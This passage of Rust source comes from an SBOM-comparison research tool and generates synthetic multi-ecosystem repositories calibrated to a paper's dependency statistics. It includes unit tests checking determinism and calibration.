        self.repos.get(&eco).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Iterates over all (ecosystem, repositories) pairs.
    pub fn iter(&self) -> impl Iterator<Item = (Ecosystem, &[RepoFs])> {
        self.repos.iter().map(|(e, r)| (*e, r.as_slice()))
    }

    /// Total repository count.
    pub fn len(&self) -> usize {
        self.repos.values().map(Vec::len).sum()
    }

    /// True when the corpus has no repositories.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// Generates one repository from its `(seed, ecosystem, index)`-derived RNG
/// stream — the unit of parallel work.
fn gen_one(registries: &Registries, config: &CorpusConfig, eco: Ecosystem, i: usize) -> RepoFs {
    let registry = registries.for_ecosystem(eco);
    let mut rng = StdRng::seed_from_u64(
        config
            .seed
            .wrapping_mul(0x9e37_79b9_7f4a_7c15)
            .wrapping_add((eco as u64) << 32)
            .wrapping_add(i as u64),
    );
    gen::gen_repo(eco, registry, &mut rng, i)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builds_all_languages_deterministically() {
        let regs = Registries::generate(11);
        let config = CorpusConfig {
            repos_per_language: 5,
            seed: 3,
        };
        let a = Corpus::build(&regs, &config);
        let b = Corpus::build(&regs, &config);
        assert_eq!(a.len(), 45);
        for (eco, repos) in a.iter() {
            let other = b.language(eco);
            assert_eq!(repos.len(), other.len());
            for (x, y) in repos.iter().zip(other) {
                assert_eq!(x, y, "{eco} corpus must be deterministic");
            }
        }
    }

    #[test]
    fn parallel_build_is_byte_identical_to_sequential() {
        let regs = Registries::generate(11);
        let config = CorpusConfig {
            repos_per_language: 6,
            seed: 9,
        };
        let sequential = Corpus::build_with_jobs(&regs, &config, 1);
        for jobs in [2, 4, 9] {
            let parallel = Corpus::build_with_jobs(&regs, &config, jobs);
            for (eco, repos) in sequential.iter() {
                assert_eq!(repos, parallel.language(eco), "jobs={jobs} {eco}");
            }
        }
        // The per-language path produces the same repositories too.
        for (eco, repos) in sequential.iter() {
            assert_eq!(repos, Corpus::build_language(&regs, &config, eco));
        }
    }

    #[test]
    fn every_repo_has_metadata() {
        let regs = Registries::generate(11);
        let config = CorpusConfig {
            repos_per_language: 8,
            seed: 5,
        };
        let corpus = Corpus::build(&regs, &config);
        for (eco, repos) in corpus.iter() {
            for repo in repos {
                assert!(
                    !repo.metadata_files().is_empty(),
                    "{eco} repo {} has no metadata",
                    repo.name()
                );
            }
        }
    }
}

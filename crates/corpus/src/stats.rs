//! Corpus introspection: recomputes the §V population statistics from a
//! generated corpus so calibration can be asserted and reported
//! (`experiments stats`).

use sbomdiff_metadata::python::{parse_requirements, ReqStyle};
use sbomdiff_metadata::{MetadataKind, RepoFs};
use sbomdiff_types::{DepScope, DependencySource, Ecosystem};

/// Population statistics of one language's corpus.
#[derive(Debug, Clone, Default)]
pub struct CorpusStats {
    /// Repositories analyzed.
    pub repo_count: usize,
    /// Share of repositories with raw metadata only (no lockfile), §V-A.
    pub raw_only_share: f64,
    /// Mean number of metadata files per repository, §V-G.
    pub avg_metadata_files: f64,
    /// Share of `requirements.txt` registry dependencies that are pinned
    /// (`==`), §V-D. Python only; 0 elsewhere.
    pub pinned_requirements_share: f64,
    /// Share of `package.json` dependencies that are dev-scoped, §V-F.
    /// JavaScript only; 0 elsewhere.
    pub dev_dep_share: f64,
    /// Share of repositories containing backslash line continuations in a
    /// requirements file, §V-B. Python only.
    pub backslash_repo_share: f64,
    /// Share of repositories using `-r` includes, §VI. Python only.
    pub include_repo_share: f64,
    /// Share of repositories with VCS/path/URL installs, §VI. Python only.
    pub exotic_source_repo_share: f64,
}

impl CorpusStats {
    /// Computes statistics over one language's repositories.
    pub fn compute(eco: Ecosystem, repos: &[RepoFs]) -> Self {
        let mut stats = CorpusStats {
            repo_count: repos.len(),
            ..CorpusStats::default()
        };
        if repos.is_empty() {
            return stats;
        }
        let mut raw_only = 0usize;
        let mut total_files = 0usize;
        let mut pinned = 0usize;
        let mut req_total = 0usize;
        let mut dev = 0usize;
        let mut pkg_total = 0usize;
        let mut backslash = 0usize;
        let mut includes = 0usize;
        let mut exotic = 0usize;
        for repo in repos {
            let metadata = repo.metadata_files();
            total_files += metadata.len();
            if !metadata.iter().any(|(_, k)| k.is_lockfile()) {
                raw_only += 1;
            }
            let mut saw_backslash = false;
            let mut saw_include = false;
            let mut saw_exotic = false;
            for (path, kind) in &metadata {
                match kind {
                    MetadataKind::RequirementsTxt => {
                        let Some(text) = repo.text(path) else {
                            continue;
                        };
                        if text.lines().any(|l| l.trim_end().ends_with('\\')) {
                            saw_backslash = true;
                        }
                        for dep in parse_requirements(text, ReqStyle::Pip) {
                            match &dep.source {
                                DependencySource::Registry => {
                                    req_total += 1;
                                    if dep.pinned_version().is_some() {
                                        pinned += 1;
                                    }
                                }
                                DependencySource::IncludeFile(_) => saw_include = true,
                                DependencySource::ConstraintsFile(_) => {}
                                _ => saw_exotic = true,
                            }
                        }
                    }
                    MetadataKind::PackageJson => {
                        let Some(text) = repo.text(path) else {
                            continue;
                        };
                        for dep in sbomdiff_metadata::javascript::parse_package_json(text) {
                            pkg_total += 1;
                            if dep.scope == DepScope::Dev {
                                dev += 1;
                            }
                        }
                    }
                    _ => {}
                }
            }
            backslash += saw_backslash as usize;
            includes += saw_include as usize;
            exotic += saw_exotic as usize;
        }
        let n = repos.len() as f64;
        stats.raw_only_share = raw_only as f64 / n;
        stats.avg_metadata_files = total_files as f64 / n;
        stats.pinned_requirements_share = if req_total > 0 {
            pinned as f64 / req_total as f64
        } else {
            0.0
        };
        stats.dev_dep_share = if pkg_total > 0 {
            dev as f64 / pkg_total as f64
        } else {
            0.0
        };
        stats.backslash_repo_share = backslash as f64 / n;
        stats.include_repo_share = includes as f64 / n;
        stats.exotic_source_repo_share = exotic as f64 / n;
        let _ = eco;
        stats
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Corpus, CorpusConfig};
    use sbomdiff_registry::Registries;

    fn corpus() -> Corpus {
        let regs = Registries::generate(2024);
        Corpus::build(
            &regs,
            &CorpusConfig {
                repos_per_language: 150,
                seed: 31,
            },
        )
    }

    /// The generated corpus must land near the paper's §V statistics.
    #[test]
    fn python_calibration() {
        let c = corpus();
        let stats = CorpusStats::compute(Ecosystem::Python, c.language(Ecosystem::Python));
        // Paper: 93% raw-only.
        assert!(
            (0.85..=0.99).contains(&stats.raw_only_share),
            "python raw-only {:.2}",
            stats.raw_only_share
        );
        // Paper: 5.7 metadata files per repository.
        assert!(
            (4.0..=8.0).contains(&stats.avg_metadata_files),
            "python files/repo {:.2}",
            stats.avg_metadata_files
        );
        // Paper: 46% pinned.
        assert!(
            (0.36..=0.56).contains(&stats.pinned_requirements_share),
            "python pinned {:.2}",
            stats.pinned_requirements_share
        );
        // Paper: ~1.8% backslash; ~10% -r includes.
        assert!(
            stats.backslash_repo_share <= 0.08,
            "backslash {:.3}",
            stats.backslash_repo_share
        );
        assert!(
            (0.03..=0.20).contains(&stats.include_repo_share),
            "includes {:.2}",
            stats.include_repo_share
        );
    }

    #[test]
    fn javascript_calibration() {
        let c = corpus();
        let stats = CorpusStats::compute(Ecosystem::JavaScript, c.language(Ecosystem::JavaScript));
        // Paper: 47% raw-only.
        assert!(
            (0.35..=0.60).contains(&stats.raw_only_share),
            "js raw-only {:.2}",
            stats.raw_only_share
        );
        // Paper: 12.8 metadata files per repository.
        assert!(
            (8.0..=17.0).contains(&stats.avg_metadata_files),
            "js files/repo {:.2}",
            stats.avg_metadata_files
        );
        // Paper: 76% dev dependencies in package.json.
        assert!(
            (0.66..=0.86).contains(&stats.dev_dep_share),
            "js dev share {:.2}",
            stats.dev_dep_share
        );
    }

    #[test]
    fn rust_calibration() {
        let c = corpus();
        let stats = CorpusStats::compute(Ecosystem::Rust, c.language(Ecosystem::Rust));
        // Paper: 56% raw-only.
        assert!(
            (0.44..=0.68).contains(&stats.raw_only_share),
            "rust raw-only {:.2}",
            stats.raw_only_share
        );
    }
}

//! Per-ecosystem repository synthesis, calibrated to §V's population
//! statistics (see the crate docs for the targets).

use rand::rngs::StdRng;
use rand::Rng;

use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::PackageUniverse;
use sbomdiff_resolver::engine::{resolve, DedupPolicy, RootDep};
use sbomdiff_types::{ConstraintFlavor, DepScope, Ecosystem, Version, VersionReq};

use crate::render::{self, GemLockSpec, LockRow};

/// Corpus-level configuration.
#[derive(Debug, Clone)]
pub struct CorpusConfig {
    /// Repositories generated per ecosystem.
    pub repos_per_language: usize,
    /// Master seed.
    pub seed: u64,
}

impl Default for CorpusConfig {
    fn default() -> Self {
        CorpusConfig {
            repos_per_language: 200,
            seed: 42,
        }
    }
}

/// Shape descriptor of one generated repository (returned for tests and
/// stats; the repository content itself is the [`RepoFs`]).
#[derive(Debug, Clone, Default)]
pub struct RepoProfile {
    /// Whether any lockfile was generated.
    pub has_lockfile: bool,
}

/// Generates one repository for an ecosystem.
pub fn gen_repo(
    eco: Ecosystem,
    registry: &PackageUniverse,
    rng: &mut StdRng,
    index: usize,
) -> RepoFs {
    let name = format!(
        "{}-repo-{index:04}",
        eco.label().to_lowercase().replace('.', "")
    );
    let mut repo = RepoFs::new(name);
    match eco {
        Ecosystem::Python => gen_python(registry, rng, &mut repo),
        Ecosystem::JavaScript => gen_javascript(registry, rng, &mut repo),
        Ecosystem::Ruby => gen_ruby(registry, rng, &mut repo),
        Ecosystem::Php => gen_php(registry, rng, &mut repo),
        Ecosystem::Java => gen_java(registry, rng, &mut repo),
        Ecosystem::Go => gen_go(registry, rng, &mut repo),
        Ecosystem::Rust => gen_rust(registry, rng, &mut repo),
        Ecosystem::Swift => gen_swift(registry, rng, &mut repo),
        Ecosystem::DotNet => gen_dotnet(registry, rng, &mut repo),
    }
    repo
}

/// Picks `n` distinct package entries from the registry.
fn pick<'r>(
    registry: &'r PackageUniverse,
    rng: &mut StdRng,
    n: usize,
) -> Vec<(&'r str, Vec<&'r Version>)> {
    let names: Vec<&str> = registry.package_names().collect();
    let mut chosen = Vec::new();
    let mut tried = 0;
    while chosen.len() < n && tried < n * 10 {
        tried += 1;
        let name = names[rng.gen_range(0..names.len())];
        if chosen.iter().any(|(c, _)| *c == name) {
            continue;
        }
        let versions = registry.versions(name);
        if versions.is_empty() {
            continue;
        }
        chosen.push((name, versions));
    }
    chosen
}

fn pick_version<'a>(versions: &[&'a Version], rng: &mut StdRng) -> &'a Version {
    versions[rng.gen_range(0..versions.len())]
}

/// Resolves roots to lockfile rows (transitives included, dev propagated).
fn resolve_rows(
    registry: &PackageUniverse,
    roots: &[(String, Option<VersionReq>, bool)],
    policy: DedupPolicy,
) -> Vec<LockRow> {
    let root_deps: Vec<RootDep> = roots
        .iter()
        .map(|(name, req, dev)| RootDep {
            name: name.clone(),
            req: req.clone(),
            scope: if *dev {
                DepScope::Dev
            } else {
                DepScope::Runtime
            },
            extras: Vec::new(),
        })
        .collect();
    let resolution = resolve(registry, &root_deps, policy, true);
    resolution
        .packages
        .into_iter()
        .map(|p| LockRow::new(p.name, p.version.to_string(), p.scope == DepScope::Dev))
        .collect()
}

fn parse_req(text: &str, flavor: ConstraintFlavor) -> Option<VersionReq> {
    VersionReq::parse(text, flavor).ok()
}

// ---------------------------------------------------------------- Python

/// One requirements.txt line and the root it declares.
struct PyLine {
    text: String,
    root: Option<(String, Option<VersionReq>)>,
}

/// Renders the name in a non-canonical spelling (case flips, `-`/`_`
/// swaps) with some probability — developers write `Flask_SQLAlchemy`,
/// pip canonicalizes, and tools report verbatim (§V-E).
fn display_spelling(name: &str, rng: &mut StdRng) -> String {
    if rng.gen_bool(0.45) {
        return name.to_string();
    }
    let mut out = String::with_capacity(name.len());
    let capitalize_all = rng.gen_bool(0.3);
    let mut at_word_start = true;
    for ch in name.chars() {
        match ch {
            '-' | '_' | '.' => {
                out.push(if rng.gen_bool(0.5) { '_' } else { '-' });
                at_word_start = true;
            }
            c => {
                if at_word_start && (capitalize_all || rng.gen_bool(0.4)) {
                    out.extend(c.to_uppercase());
                } else {
                    out.push(c);
                }
                at_word_start = false;
            }
        }
    }
    out
}

fn python_dep_line(name: &str, versions: &[&Version], rng: &mut StdRng) -> PyLine {
    let display = display_spelling(name, rng);
    let name = display.as_str();
    let v = pick_version(versions, rng);
    let style = rng.gen_range(0..100);
    // 46% pinned (§V-D), ~19% bare, rest ranges.
    let (text, req_text) = if style < 46 {
        if rng.gen_bool(0.2) {
            // Spaced pin: GitHub DG reports these verbatim (quirk).
            (format!("{name} == {v}"), format!("== {v}"))
        } else {
            (format!("{name}=={v}"), format!("=={v}"))
        }
    } else if style < 65 {
        (name.to_string(), String::new())
    } else if style < 85 {
        (format!("{name}>={v}"), format!(">={v}"))
    } else if style < 95 {
        (
            format!("{name}>={v},<{}", v.bump_major()),
            format!(">={v},<{}", v.bump_major()),
        )
    } else {
        (
            format!("{name}~={}.{}", v.segment(0), v.segment(1)),
            format!("~={}.{}", v.segment(0), v.segment(1)),
        )
    };
    let mut line = text;
    let mut included = true;
    // Environment markers (§V-H): some always-true, some excluding.
    if rng.gen_bool(0.10) {
        if rng.gen_bool(0.4) {
            line.push_str("; sys_platform == 'win32'");
            included = false;
        } else {
            line.push_str("; python_version >= '3.8'");
        }
    }
    let req = if req_text.is_empty() {
        None
    } else {
        parse_req(&req_text, ConstraintFlavor::Pep440)
    };
    PyLine {
        text: line,
        root: included.then(|| (name.to_string(), req)),
    }
}

fn gen_requirements(
    registry: &PackageUniverse,
    rng: &mut StdRng,
    n: usize,
    allow_exotic: bool,
) -> (String, Vec<(String, Option<VersionReq>, bool)>) {
    let mut lines = vec!["# synthetic requirements".to_string()];
    let mut roots = Vec::new();
    for (name, versions) in pick(registry, rng, n) {
        let line = python_dep_line(name, &versions, rng);
        lines.push(line.text);
        if let Some((n, r)) = line.root {
            roots.push((n, r, false));
        }
    }
    if allow_exotic {
        // Exotic sources that all four tools miss (Table IV); each in ~10%
        // of repositories per the paper's dataset observations (§VI).
        if rng.gen_bool(0.10) {
            lines.push("urllib3 @ git+https://github.com/urllib3/urllib3@2a7eb51".into());
        }
        if rng.gen_bool(0.05) {
            lines.push("./vendor/local_pkg-1.0.0-py3-none-any.whl".into());
        }
        if rng.gen_bool(0.03) {
            lines.push("https://files.example.net/remote_pkg-2.0.0.tar.gz".into());
        }
    }
    (lines.join("\n") + "\n", roots)
}

fn gen_python(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    let n_1 = rng.gen_range(3..18);
    let (mut main_text, mut roots) = gen_requirements(registry, rng, n_1, true);

    // ~1.8% of repositories use backslash continuations (§V-B).
    if rng.gen_bool(0.018) {
        if let Some((name, versions)) = pick(registry, rng, 1).pop() {
            let v = pick_version(&versions, rng);
            main_text.push_str(&format!("{name} \\\n==\\\n{v}\n"));
            roots.push((
                name.to_string(),
                parse_req(&format!("=={v}"), ConstraintFlavor::Pep440),
                false,
            ));
        }
    }
    // ~10% use -r includes (§VI).
    if rng.gen_bool(0.10) {
        let n_2 = rng.gen_range(2..5);
        let (base_text, base_roots) = gen_requirements(registry, rng, n_2, false);
        repo.add_text("requirements-base.txt", base_text);
        main_text.push_str("-r requirements-base.txt\n");
        roots.extend(base_roots);
    }
    repo.add_text("requirements.txt", main_text.clone());

    // Variant requirement files (dev/test/docs/ci/examples) push the
    // average metadata-file count toward the paper's 5.7.
    let variants: [(&str, f64, bool); 9] = [
        ("requirements-dev.txt", 0.75, true),
        ("requirements-test.txt", 0.55, true),
        ("requirements-ci.txt", 0.50, true),
        ("requirements-docs.txt", 0.35, true),
        ("requirements-lint.txt", 0.30, true),
        ("requirements-test-extra.txt", 0.40, true),
        ("requirements-optional.txt", 0.30, true),
        ("docs/requirements.txt", 0.25, true),
        ("examples/requirements.txt", 0.15, false),
    ];
    let main_dep_lines: Vec<String> = main_text
        .lines()
        .filter(|l| {
            let t = l.trim();
            !t.is_empty() && !t.starts_with(['#', '-']) && !t.ends_with('\\')
        })
        .map(str::to_string)
        .collect();
    for (path, prob, _dev) in variants {
        if rng.gen_bool(prob) {
            let n_3 = rng.gen_range(2..8);
            let (mut text, _) = gen_requirements(registry, rng, n_3, false);
            // Dev/test requirement files commonly repeat the main pins
            // (§V-G duplicates).
            for line in &main_dep_lines {
                if rng.gen_bool(0.12) {
                    text.push_str(line);
                    text.push('\n');
                }
            }
            repo.add_text(path, text);
        }
    }
    // setup.py (GitHub DG only reads it, Table II).
    if rng.gen_bool(0.45) {
        let reqs: Vec<String> = roots
            .iter()
            .take(5)
            .map(|(n, r, _)| match r {
                Some(r) => format!("{n}{}", r.raw()),
                None => n.clone(),
            })
            .collect();
        repo.add_text("setup.py", render::setup_py(&reqs));
    }
    // Subprojects sharing dependencies (→ Table I duplicates).
    let n_sub = if rng.gen_bool(0.35) {
        rng.gen_range(1..3)
    } else {
        0
    };
    for s in 0..n_sub {
        let n_4 = rng.gen_range(2..9);
        let (text, _) = gen_requirements(registry, rng, n_4, false);
        repo.add_text(format!("services/svc{s}/requirements.txt"), text);
    }
    // 7% of Python repositories carry a lockfile (≈ 93% raw-only, §V-A).
    if rng.gen_bool(0.07) {
        let lock_roots: Vec<(String, Option<VersionReq>, bool)> = roots.clone();
        let rows = resolve_rows(registry, &lock_roots, DedupPolicy::HighestWins);
        if rng.gen_bool(0.6) {
            repo.add_text("poetry.lock", render::poetry_lock(&rows));
        } else {
            repo.add_text("Pipfile.lock", render::pipfile_lock(&rows));
        }
    }
}

// ------------------------------------------------------------ JavaScript

fn js_spec(v: &Version, rng: &mut StdRng) -> String {
    match rng.gen_range(0..100) {
        0..=59 => format!("^{v}"),
        60..=74 => format!("~{v}"),
        75..=89 => v.to_string(),
        90..=95 => format!(">={v}"),
        _ => "*".to_string(),
    }
}

fn gen_package_json(
    registry: &PackageUniverse,
    rng: &mut StdRng,
    n_runtime: usize,
    n_dev: usize,
) -> (String, Vec<(String, Option<VersionReq>, bool)>) {
    let mut runtime = Vec::new();
    let mut dev = Vec::new();
    let mut roots = Vec::new();
    for (i, (name, versions)) in pick(registry, rng, n_runtime + n_dev)
        .into_iter()
        .enumerate()
    {
        let v = pick_version(&versions, rng);
        let spec = js_spec(v, rng);
        let is_dev = i >= n_runtime;
        let req = parse_req(&spec, ConstraintFlavor::Npm);
        roots.push((name.to_string(), req, is_dev));
        if is_dev {
            dev.push((name.to_string(), spec));
        } else {
            runtime.push((name.to_string(), spec));
        }
    }
    (render::package_json(&runtime, &dev), roots)
}

fn gen_javascript(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    // 76% of package.json dependencies are dev (§V-F): dev ≈ 3× runtime.
    let n_runtime = rng.gen_range(2..7);
    let n_dev = n_runtime * 3 + rng.gen_range(0..4);
    let (text, mut roots) = gen_package_json(registry, rng, n_runtime, n_dev);
    repo.add_text("package.json", text);
    // 53% of JavaScript repositories have a lockfile (47% raw-only, §V-A).
    let has_lockfile = rng.gen_bool(0.53);

    // Monorepo workspaces and example/test package.jsons push the average
    // metadata-file count toward the paper's 12.8. Workspace packages share
    // the root lockfile, so their dependencies join the lockfile roots.
    if rng.gen_bool(0.55) {
        for p in 0..rng.gen_range(5..15) {
            let n_5 = rng.gen_range(1..3);
            let n_6 = rng.gen_range(2..8);
            let (sub, sub_roots) = gen_package_json(registry, rng, n_5, n_6);
            repo.add_text(format!("packages/pkg{p}/package.json"), sub);
            // Messy monorepos: some packages carry their own stale
            // package-lock.json alongside the root one (§V-G).
            if has_lockfile && rng.gen_bool(0.06) {
                let rows = resolve_rows(registry, &sub_roots, DedupPolicy::HighestWins);
                repo.add_text(
                    format!("packages/pkg{p}/package-lock.json"),
                    render::package_lock(&rows),
                );
            }
            roots.extend(sub_roots);
        }
    }
    for e in 0..rng.gen_range(2..9) {
        let n_7 = rng.gen_range(1..3);
        let n_8 = rng.gen_range(0..3);
        let (sub, _) = gen_package_json(registry, rng, n_7, n_8);
        repo.add_text(format!("examples/ex{e}/package.json"), sub);
    }

    if has_lockfile {
        let rows = resolve_rows(registry, &roots, DedupPolicy::HighestWins);
        let add_lock = |repo: &mut RepoFs, kind: u32, prefix: &str, rows: &[LockRow]| match kind {
            0 => repo.add_text(
                format!("{prefix}package-lock.json"),
                render::package_lock(rows),
            ),
            1 => {
                let yarn_rows: Vec<(String, String, String)> = rows
                    .iter()
                    .map(|r| (r.name.clone(), format!("^{}", r.version), r.version.clone()))
                    .collect();
                repo.add_text(format!("{prefix}yarn.lock"), render::yarn_lock(&yarn_rows));
            }
            _ => repo.add_text(format!("{prefix}pnpm-lock.yaml"), render::pnpm_lock(rows)),
        };
        let primary = match rng.gen_range(0..100) {
            0..=44 => 0,
            45..=64 => 1,
            _ => 2,
        };
        add_lock(repo, primary, "", &rows);
        // ~10% of lockfile repos carry a stale second lockfile of another
        // kind (npm→yarn migrations) — a prime §V-G duplicate source.
        if rng.gen_bool(0.10) {
            let other = (primary + 1 + rng.gen_range(0..2)) % 3;
            add_lock(repo, other, "", &rows);
        }
        // Example apps sometimes commit their own lockfile.
        if rng.gen_bool(0.20) {
            let sample: Vec<LockRow> = rows.iter().take(rows.len().min(12)).cloned().collect();
            add_lock(repo, primary, "examples/ex0/", &sample);
        }
    }
}

// ----------------------------------------------------------------- Ruby

fn gen_ruby(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    let n = rng.gen_range(4..14);
    let mut entries = Vec::new();
    let mut roots = Vec::new();
    for (name, versions) in pick(registry, rng, n) {
        let v = pick_version(&versions, rng);
        let dev = rng.gen_bool(0.25);
        let req_text = match rng.gen_range(0..100) {
            0..=54 => Some(format!("~> {}.{}", v.segment(0), v.segment(1))),
            55..=74 => Some(format!(">= {v}")),
            _ => None,
        };
        let req = req_text
            .as_deref()
            .and_then(|t| parse_req(t, ConstraintFlavor::RubyGems));
        roots.push((name.to_string(), req, dev));
        entries.push((name.to_string(), req_text, dev));
    }
    repo.add_text("Gemfile", render::gemfile(&entries));

    if rng.gen_bool(0.70) {
        let rows = resolve_rows(registry, &roots, DedupPolicy::HighestWins);
        let specs: Vec<GemLockSpec> = rows
            .iter()
            .map(|r| (r.name.clone(), r.version.clone(), Vec::new()))
            .collect();
        let direct: Vec<(String, Option<String>)> = entries
            .iter()
            .map(|(n, r, _)| (n.clone(), r.clone()))
            .collect();
        repo.add_text("Gemfile.lock", render::gemfile_lock(&specs, &direct));
    }
    if rng.gen_bool(0.30) {
        let spec_entries: Vec<(String, Option<String>, bool)> = entries
            .iter()
            .take(5)
            .map(|(n, r, d)| (n.clone(), r.clone(), *d))
            .collect();
        repo.add_text(
            "synthetic.gemspec",
            render::gemspec("synthetic", &spec_entries),
        );
    }
    // Engine/subgem layouts repeat a subset of the gems (§V-G duplicates).
    if rng.gen_bool(0.20) {
        let take = entries.len().clamp(1, 4);
        let sub_entries: Vec<(String, Option<String>, bool)> =
            entries.iter().take(take).cloned().collect();
        repo.add_text("engines/core/Gemfile", render::gemfile(&sub_entries));
        if rng.gen_bool(0.70) {
            let sub_roots: Vec<(String, Option<VersionReq>, bool)> =
                roots.iter().take(take).cloned().collect();
            let rows = resolve_rows(registry, &sub_roots, DedupPolicy::HighestWins);
            let specs: Vec<GemLockSpec> = rows
                .iter()
                .map(|r| (r.name.clone(), r.version.clone(), Vec::new()))
                .collect();
            let direct: Vec<(String, Option<String>)> = sub_entries
                .iter()
                .map(|(n, r, _)| (n.clone(), r.clone()))
                .collect();
            repo.add_text(
                "engines/core/Gemfile.lock",
                render::gemfile_lock(&specs, &direct),
            );
        }
    }
}

// ------------------------------------------------------------------ PHP

fn gen_php(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    let n = rng.gen_range(4..12);
    let mut require = Vec::new();
    let mut require_dev = Vec::new();
    let mut roots = Vec::new();
    for (name, versions) in pick(registry, rng, n) {
        let v = pick_version(&versions, rng);
        let dev = rng.gen_bool(0.3);
        let spec = match rng.gen_range(0..100) {
            0..=59 => format!("^{v}"),
            60..=74 => format!("~{v}"),
            75..=89 => v.to_string(),
            _ => format!("^{} || ^{}", v, v.bump_major()),
        };
        roots.push((
            name.to_string(),
            parse_req(&spec, ConstraintFlavor::Composer),
            dev,
        ));
        if dev {
            require_dev.push((name.to_string(), spec));
        } else {
            require.push((name.to_string(), spec));
        }
    }
    repo.add_text(
        "composer.json",
        render::composer_json(&require, &require_dev),
    );
    let has_lock = rng.gen_bool(0.60);
    if has_lock {
        let rows = resolve_rows(registry, &roots, DedupPolicy::HighestWins);
        repo.add_text("composer.lock", render::composer_lock(&rows));
    }
    // Subpackage with overlapping dependencies (§V-G duplicates).
    if rng.gen_bool(0.25) {
        let take = require.len().clamp(1, 4);
        let sub_req: Vec<(String, String)> = require.iter().take(take).cloned().collect();
        repo.add_text(
            "packages/core/composer.json",
            render::composer_json(&sub_req, &[]),
        );
        if has_lock {
            let sub_roots: Vec<(String, Option<VersionReq>, bool)> =
                roots.iter().take(take).cloned().collect();
            let rows = resolve_rows(registry, &sub_roots, DedupPolicy::HighestWins);
            repo.add_text("packages/core/composer.lock", render::composer_lock(&rows));
        }
    }
}

// ----------------------------------------------------------------- Java

fn gen_java(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    let n_9 = rng.gen_range(4..14);
    let picked = pick(registry, rng, n_9);
    let mut deps = Vec::new();
    let mut properties = Vec::new();
    let mut roots = Vec::new();
    for (name, versions) in &picked {
        let v = pick_version(versions, rng);
        let (group, artifact) = name.split_once(':').unwrap_or(("synthetic", name));
        let test = rng.gen_bool(0.25);
        let version_text = if rng.gen_bool(0.15) {
            // property indirection
            let key = format!("{}.version", artifact.replace([':', '.'], "-"));
            properties.push((key.clone(), v.to_string()));
            format!("${{{key}}}")
        } else if rng.gen_bool(0.08) {
            String::new() // version omitted (managed elsewhere / missing)
        } else {
            v.to_string()
        };
        roots.push((
            name.to_string(),
            parse_req(&v.to_string(), ConstraintFlavor::Maven),
            test,
        ));
        deps.push((group.to_string(), artifact.to_string(), version_text, test));
    }
    repo.add_text(
        "pom.xml",
        render::pom_xml("com.synthetic", "app", &deps, &properties),
    );
    // Multi-module layouts (§V-G duplicates).
    if rng.gen_bool(0.35) {
        for m in 0..rng.gen_range(1..4) {
            let sub: Vec<(String, String, String, bool)> = deps
                .iter()
                .take(rng.gen_range(1..deps.len().max(2)))
                .cloned()
                .collect();
            repo.add_text(
                format!("module{m}/pom.xml"),
                render::pom_xml("com.synthetic", &format!("module{m}"), &sub, &properties),
            );
        }
    }
    if rng.gen_bool(0.25) {
        let rows = resolve_rows(registry, &roots, DedupPolicy::FirstWins);
        let coords: Vec<(String, String)> = rows
            .iter()
            .map(|r| (r.name.clone(), r.version.clone()))
            .collect();
        repo.add_text("gradle.lockfile", render::gradle_lockfile(&coords));
    }
    if rng.gen_bool(0.15) {
        repo.add_text(
            "META-INF/MANIFEST.MF",
            "Manifest-Version: 1.0\nBundle-SymbolicName: com.synthetic.app\nBundle-Version: 1.0.0\n",
        );
    }
    if rng.gen_bool(0.15) {
        repo.add_text(
            "META-INF/maven/com.synthetic/app/pom.properties",
            "groupId=com.synthetic\nartifactId=app\nversion=1.0.0\n",
        );
    }
}

// ------------------------------------------------------------------- Go

fn gen_go(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    gen_go_module(registry, rng, repo, "");
    // Multi-module repositories (§V-G duplicates).
    if rng.gen_bool(0.20) {
        for m in 0..rng.gen_range(1..3) {
            gen_go_module(registry, rng, repo, &format!("cmd/tool{m}/"));
        }
    }
}

fn gen_go_module(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs, prefix: &str) {
    let n = rng.gen_range(3..12);
    let picked = pick(registry, rng, n);
    let mut direct = Vec::new();
    let mut roots = Vec::new();
    for (name, versions) in &picked {
        let v = pick_version(versions, rng);
        direct.push((name.to_string(), v.to_v_prefixed(), false));
        roots.push((
            name.to_string(),
            Some(VersionReq::exact((*v).clone())),
            false,
        ));
    }
    // The full transitive closure: go.sum carries all of it; `go mod tidy`
    // records only the indirect modules the build actually needs (a
    // subset), which is why go.sum-reading tools find more (Fig. 1d).
    let rows = resolve_rows(registry, &roots, DedupPolicy::HighestWins);
    let mut requires = direct.clone();
    let mut sum_rows: Vec<(String, String)> = Vec::new();
    for row in &rows {
        let v = Version::parse(&row.version)
            .map(|v| v.to_v_prefixed())
            .unwrap_or_else(|_| row.version.clone());
        sum_rows.push((row.name.clone(), v.clone()));
        if !direct.iter().any(|(n, _, _)| *n == row.name) && rng.gen_bool(0.40) {
            requires.push((row.name.clone(), v, true));
        }
    }
    repo.add_text(
        format!("{prefix}go.mod"),
        render::go_mod("github.com/synthetic/app", &requires),
    );
    if rng.gen_bool(0.70) {
        repo.add_text(format!("{prefix}go.sum"), render::go_sum(&sum_rows));
    }
    if prefix.is_empty() && rng.gen_bool(0.12) {
        let modules: Vec<(&str, &str)> = sum_rows
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_str()))
            .collect();
        repo.add_bytes(
            "bin/app.gobin",
            sbomdiff_metadata::golang::render_go_binary(&modules),
        );
    }
}

// ----------------------------------------------------------------- Rust

fn gen_rust(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    let n_11 = rng.gen_range(4..14);
    let picked = pick(registry, rng, n_11);
    let mut deps = Vec::new();
    let mut roots = Vec::new();
    for (name, versions) in &picked {
        let v = pick_version(versions, rng);
        let dev = rng.gen_bool(0.25);
        let spec = match rng.gen_range(0..100) {
            0..=69 => {
                if rng.gen_bool(0.5) {
                    format!("{}.{}", v.segment(0), v.segment(1))
                } else {
                    v.to_string()
                }
            }
            70..=79 => format!("={v}"),
            _ => format!(">={v}"),
        };
        roots.push((
            name.to_string(),
